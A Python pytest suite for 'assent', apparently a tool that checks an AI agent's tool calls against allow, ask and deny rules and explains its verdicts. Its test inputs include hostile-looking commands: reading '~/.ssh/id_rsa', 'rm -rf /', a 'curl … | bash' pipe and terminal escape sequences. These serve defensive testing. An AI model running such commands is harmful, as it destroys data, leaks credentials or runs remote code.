"""`assent check` and `assent explain`: what a person sees, what a machine reads, and how each of them ends."""

from __future__ import annotations

import importlib
import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from assent.cli.main import VERBS, module_of
from scene import LAUNCHER, WAYS, Done, Scene

READ = '{"file_path": "src/app.py"}'
WRITE = '{"file_path": "src/app.py", "content": "x"}'
SECRET = '{"file_path": "~/.ssh/id_rsa"}'
SLOW_VERBS = [verb for verb in VERBS if verb not in ("help", "version")]

Capture = pytest.CaptureFixture[str]


@pytest.fixture
def scene(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Scene:
    made = Scene(tmp_path, monkeypatch)
    made.write(made.project / "src/app.py", "pass\n")
    return made


def tool(name: str, input: str) -> tuple[str, ...]:
    return "check", "--tool", name, "--input", input


# --- how it ends ---------------------------------------------------------------------------------------------------

ENDS = [
    (tool("Read", READ), 0),
    (tool("Write", WRITE), 3),
    (("check", "git push"), 3),
    (tool("Read", SECRET), 4),
    (("check",), 2),
]


@pytest.mark.parametrize(("words", "code"), ENDS)
def test_the_exit_code_is_the_verdict(words: tuple[str, ...], code: int, scene: Scene, capsys: Capture) -> None:
    assert scene.run(capsys, *words).code == code


@pytest.mark.parametrize(("words", "code"), ENDS)
def test_a_real_process_ends_the_same_way(words: tuple[str, ...], code: int, scene: Scene) -> None:
    done = scene.start(*words)
    assert done.code == code, done.err
    assert "Traceback" not in done.err


# --- what a person sees --------------------------------------------------------------------------------------------


def test_an_allowed_call_is_shown_with_its_effect(scene: Scene, capsys: Capture) -> None:
    assert scene.run(capsys, *tool("Read", READ)) == Done(
        0,
        """\
 ALLOW  Read  src/app.py
        reads src/app.py: read-only
        effect    read   src/app.py
""",
        "",
    )


def test_a_question_comes_with_the_rules_that_would_spare_it(scene: Scene, capsys: Capture) -> None:
    assert scene.run(capsys, *tool("Write", WRITE)).out == (
        """\
 ASK    Write  src/app.py
        writes src/app.py: default mode asks first
        effect    write  src/app.py
        to allow  Write(./src/app.py)
        to allow  Write(./src/**)
"""
    )


def test_a_rule_is_shown_with_its_file_and_line_and_what_else_was_said(scene: Scene, capsys: Capture) -> None:
    file = scene.user('# mine\ndeny = ["Write(./src/**)"]\n')
    assert scene.run(capsys, *tool("Write", WRITE)).out == (
        f"""\
 DENY   Write  src/app.py
        src/app.py matches deny rule: Write(./src/**)
        rule      Write(./src/**)  ({file}:2)
        effect    write  src/app.py
        also      ask: writes src/app.py: default mode asks first
"""
    )


def test_what_is_not_understood_is_shown(scene: Scene, capsys: Capture) -> None:
    shown = scene.run(capsys, *tool("Read", '{"file_path": "src/app.py", "as_user": "root"}')).out
    assert "        unclear   Read has an unknown field `as_user`\n" in shown


def test_what_an_untrusted_file_may_not_do_is_noted(scene: Scene, capsys: Capture) -> None:
    file = scene.shared('allow = ["Write(./src/**)"]\n')
    for verb in ("check", "explain"):
        done = scene.run(capsys, verb, *tool("Write", WRITE)[1:])
        assert f"{file}: 1 allowing entry is ignored until you trust this file" in done.out
        assert done.code == 3


def test_control_characters_of_a_call_are_written_out(scene: Scene, capsys: Capture) -> None:
    done = scene.run(capsys, "check", "ls\x1b[2J\x1b]0;owned\x07\u202e")
    assert "Bash  ls\\u{1b}[2J\\u{1b}]0;owned\\u{7}\\u{202e}" in done.out
    assert not any(sign in done.out for sign in "\x1b\x07\u202e")


def test_a_long_command_says_how_much_is_not_shown(scene: Scene, capsys: Capture) -> None:
    first = scene.run(capsys, "check", "echo " + "x" * 120 + "\nrm -rf /").out.splitlines()[0]
    assert first == " DENY   Bash  echo " + "x" * 95 + " … (33 more characters)"


@pytest.mark.parametrize(
    ("env", "coloured"),
    [
        ({}, False),
        ({"FORCE_COLOR": "1"}, True),
        ({"FORCE_COLOR": "1", "NO_COLOR": "1"}, False),
        ({"FORCE_COLOR": "1", "NO_COLOR": ""}, True),
    ],
)
def test_colour_is_for_terminals_unless_a_variable_says_otherwise(
    env: dict[str, str], coloured: bool, scene: Scene, capsys: Capture
) -> None:
    for name, value in env.items():
        scene.monkeypatch.setenv(name, value)
    first = scene.run(capsys, *tool("Read", READ)).out.splitlines()[0]
    plain = " ALLOW  Read  src/app.py"
    assert first == ("\x1b[1;32m ALLOW \x1b[0m \x1b[1mRead  src/app.py\x1b[0m" if coloured else plain)


def test_json_is_never_coloured(scene: Scene) -> None:
    assert scene.start(*tool("Read", READ), "--json", FORCE_COLOR="1").json["verdict"] == "allow"


# --- what a machine reads ------------------------------------------------------------------------------------------


def test_json_says_everything_about_a_decision(scene: Scene, capsys: Capture) -> None:
    file = scene.user('[[rule]]\nid = "sources"\nask = "Write(./src/**)"\nmessage = "Sources are reviewed"\n')
    scene.shared('allow = ["Write(./src/**)"]\n')
    done = scene.run(capsys, *tool("Edit", '{"file_path": "src/app.py", "old_string": "a"}'), "--json")
    rule = {"rule": "Write(./src/**)", "source": f"{file}:3"}
    asks = "writes src/app.py: default mode asks first"
    expected = {
        "verdict": "ask",
        "reason": "Sources are reviewed",
        "decided_by": "ask",
        "rule": "Write(./src/**)",
        "effects": [{"kind": "write", "target": "src/app.py"}],
        "gaps": [],
        "suggestions": [],
        "rule_id": "sources",
        "rule_source": f"{file}:3",
        "mode": "default",
        "together": [],
        "possible_effects": [{"kind": "read", "target": "src/app.py"}],
        "reasons": [
            {"verdict": "ask", "step": "ask", "text": "Sources are reviewed", **rule},
            {"verdict": "ask", "step": "mode", "text": asks, "rule": None, "source": None},
        ],
        "trace": [
            *({"step": step, "outcome": "passes"} for step in ("policy", "floor", "deny", "plan")),
            {"step": "ask", "outcome": "ask: Sources are reviewed"},
            {"step": "check", "outcome": "passes"},
            {"step": "allow", "outcome": f"ask: {asks}"},
        ],
        "policy_digest": scene.load().policy.digest,
        "notices": [f"{scene.project_file}: 1 allowing entry is ignored until you trust this file"],
    }
    assert (done.json, done.code) == (expected, 3)


def test_json_of_explain_adds_the_answer_in_every_mode(scene: Scene, capsys: Capture) -> None:
    checked = scene.run(capsys, *tool("Write", WRITE), "--json").json
    explained = scene.run(capsys, "explain", *tool("Write", WRITE)[1:], "--json")
    modes = {"default": "ask", "plan": "deny", "full_auto": "allow"}
    assert explained.json == {**checked, "modes": modes, "parts": [], "steps": []}
    assert explained.code == 3


def test_explain_shows_every_step_and_what_would_change_the_answer(scene: Scene, capsys: Capture) -> None:
    done = scene.run(capsys, "explain", *tool("Write", WRITE)[1:])
    assert done.out.endswith(
        """\
Answer: ASK in default mode, because writes src/app.py: default mode asks first

What would change it
  in full_auto mode: ALLOW
  in plan mode: DENY
  with the rule Write(./src/app.py): ALLOW
  with the rule Write(./src/**): ALLOW
"""
    )


def test_explain_says_of_each_part_what_the_answer_says(scene: Scene, capsys: Capture) -> None:
    parts = scene.run(capsys, "explain", "curl https://x.example | bash", "--json").json["parts"]
    assert [(part["text"], part["verdict"], part["gaps"]) for part in parts] == [
        ("curl https://x.example", "ask", []),
        ("bash", "ask", ["not understood: text that bash reads"]),
    ]


def test_explain_promises_nothing_about_the_floor(scene: Scene, capsys: Capture) -> None:
    done = scene.run(capsys, "explain", *tool("Read", SECRET)[1:], "--mode", "full_auto")
    assert done.code == 4
    assert "  nothing: this is closed in every mode, for every rule and every approval\n" in done.out


# --- what is given -------------------------------------------------------------------------------------------------


def test_the_input_may_come_from_standard_input(scene: Scene, capsys: Capture) -> None:
    scene.type(SECRET)
    assert scene.run(capsys, *tool("Read", "-")).code == 4
    assert scene.start(*tool("Read", "-"), stdin=READ).code == 0


def test_a_mode_can_be_tried_out(scene: Scene, capsys: Capture) -> None:
    scene.user('deny = ["Write(./locked/**)"]\n')
    verdicts = {mode: scene.run(capsys, *tool("Write", WRITE), "--mode", mode).code for mode in ("plan", "full_auto")}
    assert verdicts == {"plan": 4, "full_auto": 0}
    locked = scene.run(capsys, *tool("Write", '{"file_path": "locked/a"}'), "--mode", "full_auto")
    assert locked.code == 4, "the rules of the files still hold"


def test_rules_on_the_command_line_replace_the_files(scene: Scene, capsys: Capture) -> None:
    scene.user('mode = "plan"\ndeny = ["Write(./src/**)"]\n')
    assert scene.run(capsys, *tool("Write", WRITE)).code == 4
    assert scene.run(capsys, *tool("Write", WRITE), "--allow", "Write(./src/**)").code == 0
    assert scene.run(capsys, *tool("Write", WRITE), "--allow", "Write(./other/**)").code == 3


def test_the_strictest_rule_of_the_command_line_wins(scene: Scene, capsys: Capture) -> None:
    words = [*tool("Write", WRITE), "--allow", "Write(./docs/**)", "--allow=Write(./src/**)"]
    assert scene.run(capsys, *words).code == 0
    words += ["--ask", "Write(**/app.py)"]
    assert scene.run(capsys, *words).code == 3
    words += ["--deny", "Write"]
    assert scene.run(capsys, *words, "--mode", "full_auto").code == 4


def test_cwd_and_workspace_are_those_of_the_call(scene: Scene, capsys: Capture) -> None:
    other = scene.write(scene.home / "other/a.txt", "x").parent
    read = tool("Read", '{"file_path": "a.txt"}')
    assert scene.run(capsys, *read, "--cwd", str(other), "--workspace", str(scene.project)).code == 3
    assert scene.run(capsys, *read, "--cwd", "../home/other", "--workspace", "../home/other").code == 0


def test_what_follows_two_dashes_is_the_command(scene: Scene, capsys: Capture) -> None:
    assert scene.run(capsys, "check", "--json", "--", "--mode").json["verdict"] == "ask"


# --- wrong usage ---------------------------------------------------------------------------------------------------

WRONG = [
    (("chekc", "ls"), "unknown verb `chekc` (did you mean `check`?)"),
    (("frobnicate",), "unknown verb `frobnicate` (see `assent help`)"),
    (("check", "--toll", "Read"), "unknown option `--toll` (did you mean `--tool`?)"),
    (("check", "-x", "ls"), "unknown option `-x` (see `assent check --help`)"),
    (("check", "--tool"), "`--tool` needs a value (see `assent check --help`)"),
    (("check", "--json=1", "ls"), "`--json` takes no value (see `assent check --help`)"),
    (("check", "ls", "-la"), "unknown option `-la` (see `assent check --help`)"),
    (("check", "ls", "src"), "give one command, or --tool with --input (quote the command: assent check 'ls -la')"),
    (("check", "--input", "{}", "ls"), "`ls` is one argument too many (with --input there is no COMMAND)"),
    (("check", "--input", "[]"), '--input must be a JSON object (such as \'{"file_path": "README.md"}\')'),
    (
        ("check", "--input", "{file}"),
        "--input is not JSON: Expecting property name enclosed in double quotes: line 1 column 2 (char 1) "
        "(write it as a JSON object)",
    ),
    (
        ("check", "--input", '{"a": 1, "a": 2}'),
        "--input is not JSON we accept: key `a` appears twice (write it as a JSON object)",
    ),
    (("check", "ls", "--mode", "yolo"), "unknown mode `yolo` (one of default, plan, full_auto)"),
    (("check", "ls", "--mode", "yolo", "--ask", "Bash"), "unknown mode `yolo` (one of default, plan, full_auto)"),
    (("check", "ls", "--shell", "fish"), "unknown shell `fish` (one of bash, sh, zsh, powershell)"),
    (
        ("check", "ls", "--allow", "Raed(./src)"),
        "policy: unknown tool `Raed` in rule `Raed(./src)` "
        "(did you mean `Read`? a tool of your own is written `Tool(Raed)`)",
    ),
    (
        ("check", "--jsonl", "--mode", "plan"),
        "`--mode` does not go with --jsonl (every line says for itself what applies to it)",
    ),
    (("check", "--jsonl", "a", "b"), "--jsonl takes at most one file (or pipe the lines into standard input)"),
    (("check", "--jsonl", "no-such-file"), "cannot read `no-such-file`: No such file or directory"),
    (("explain", "--jsonl"), "unknown option `--jsonl` (did you mean `--json`?)"),
]


@pytest.mark.parametrize(("words", "says"), WRONG)
def test_wrong_usage_is_one_line_that_says_what_to_write(
    words: tuple[str, ...], says: str, scene: Scene, capsys: Capture
) -> None:
    assert scene.run(capsys, *words) == Done(2, "", f"assent: {says}\n")


# --- broken policies -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("verb", ["check", "explain"])
@pytest.mark.parametrize(
    ("text", "says"),
    [
        ('mode = "full_auto"\nalow = ["Write"]\n', "2:1: unknown key `alow` (did you mean `allow`?)"),
        ('allow = ["Write"]\nmode = full_auto\n', "2:8: not TOML: invalid value (text needs quotes, as in"),
        ('mode = "full_auto"\nallow = [\n  "Raed(./x)",\n]\n', "3:3: unknown tool `Raed` in rule `Raed(./x)`"),
        (b'mode = "full_auto"\n# \xff\n', " not UTF-8 at byte 21"),
    ],
)
def test_a_broken_policy_is_named_with_its_place_and_allows_nothing(
    verb: str, text: str | bytes, says: str, scene: Scene, capsys: Capture
) -> None:
    file = scene.user(text)
    done = scene.run(capsys, verb, *tool("Read", READ)[1:], "--json")
    assert done.err.startswith(f"assent: {file}:{says}")
    assert (done.code, done.json["verdict"], done.json["decided_by"]) == (2, "ask", "policy")


def test_a_broken_policy_keeps_its_denials_in_a_real_process_too(scene: Scene) -> None:
    scene.user('deny = ["Read(./src/**)"]\nalow = []\n')
    for _ in ("compiled", "from the cache"):
        done = scene.start(*tool("Read", READ), "--mode", "full_auto", "--json")
        assert (done.code, done.json["verdict"], done.json["decided_by"]) == (2, "deny", "deny")
        assert done.err == f"assent: {scene.user_file}:2:1: unknown key `alow` (did you mean `allow`?)\n"


# --- nothing fails open --------------------------------------------------------------------------------------------


def test_a_failure_of_ours_is_one_line_and_never_an_exit_code_that_hosts_ignore(scene: Scene, capsys: Capture) -> None:
    def fail(*_: object) -> None:
        raise RuntimeError("boom")

    scene.monkeypatch.setattr("assent.cli.check.load_policy", fail)
    assert scene.run(capsys, *tool("Read", READ)) == Done(2, "", "assent: the checker failed: RuntimeError: boom\n")


def test_a_working_folder_that_is_gone_is_no_traceback(scene: Scene) -> None:
    gone = scene.project / "gone"
    gone.mkdir()
    remove_and_check = "import os, sys; os.rmdir(os.getcwd()); os.execv(sys.argv[1], sys.argv[1:])"
    words = [sys.executable, "-c", remove_and_check, *LAUNCHER, *tool("Read", READ)]
    done = subprocess.run(words, cwd=gone, env=scene.env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    assert done.stderr.startswith("assent: the checker failed: FileNotFoundError")


@WAYS
@pytest.mark.parametrize("closed", [0, 1, 2], ids=["stdin", "stdout", "stderr"])
def test_a_stream_that_is_closed_is_no_traceback_and_no_allow(closed: int, way: tuple[str, ...], scene: Scene) -> None:
    close_and_check = f"import os, sys; os.close({closed}); os.execv(sys.argv[1], sys.argv[1:])"
    words = [sys.executable, "-c", close_and_check, *way, *tool("Read", "-" if closed == 0 else SECRET)]
    done = subprocess.run(words, cwd=scene.project, env=scene.env, capture_output=True, text=True, timeout=60)
    assert done.returncode == (4 if closed == 2 else 2)
    assert "Traceback" not in done.stderr


@WAYS
def test_an_answer_that_nobody_reads_is_no_traceback(way: tuple[str, ...], scene: Scene) -> None:
    reader, writer = os.pipe()
    os.close(reader)
    words = [*way, *tool("Read", READ)]
    try:
        done = subprocess.run(
            words, cwd=scene.project, env=scene.env, stdout=writer, stderr=subprocess.PIPE, text=True, timeout=60
        )
    finally:
        os.close(writer)
    assert (done.returncode, done.stderr) == (2, "")


# --- help ----------------------------------------------------------------------------------------------------------


def help_of(verb: str) -> str:
    return str(importlib.import_module(module_of(verb)).HELP).replace("{{", "{").replace("}}", "}")


def examples_in(text: str) -> list[str]:
    """The commands after `Examples:`."""
    lines = text.partition("\nExamples:\n")[2].splitlines()
    return [line.strip() for line in lines if line.startswith("  assent ")]


@pytest.mark.parametrize("verb", SLOW_VERBS)
def test_help_names_every_option_of_its_verb(verb: str, scene: Scene, capsys: Capture) -> None:
    shown = scene.run(capsys, verb, "--help")
    known = importlib.import_module(module_of(verb)).KNOWN
    assert shown.code == 0
    assert [name for name in known if name not in shown.out.replace(",", " ").split()] == []
    assert scene.run(capsys, "help", verb) == shown


def test_the_help_of_all_names_every_verb(scene: Scene, capsys: Capture) -> None:
    shown = scene.run(capsys, "help")
    assert [verb for verb in VERBS if f"\n  {verb} " not in shown.out] == []
    assert scene.run(capsys) == scene.run(capsys, "--help") == scene.run(capsys, "-h") == shown


ELSEWHERE = (
    *("run", "hook", "serve", "mcp", "install", "uninstall"),
    *("doctor", "audit", "judge", "import", "export"),
)
"""Verbs that wait, listen, ask a model, or act on more than this scene: their own tests run their examples."""
EXAMPLES = [
    example for verb in ("main", *SLOW_VERBS) if verb not in ELSEWHERE for example in examples_in(help_of(verb))
]


@pytest.mark.parametrize("verb", ["main", *SLOW_VERBS])
def test_every_help_has_an_example(verb: str) -> None:
    assert examples_in(help_of(verb))


@pytest.mark.parametrize("example", EXAMPLES)
def test_the_examples_of_the_help_run(example: str, scene: Scene, capsys: Capture) -> None:
    call = {"tool": "Read", "input": {"file_path": "src/app.py"}, "cwd": str(scene.project), "expect": "allow"}
    scene.write(scene.project / "calls.jsonl", json.dumps(call))
    scene.write(scene.project / "cases.jsonl", json.dumps(call))
    scene.shared('allow = ["Read(./docs/**)"]\n')
    scene.sit_down("yes\n")
    words = shlex.split(example.partition(" > ")[0])[1:]
    done = scene.run(capsys, *words)
    assert (done.code in (0, 3, 4), done.err) == (True, ""), done
    assert done.out
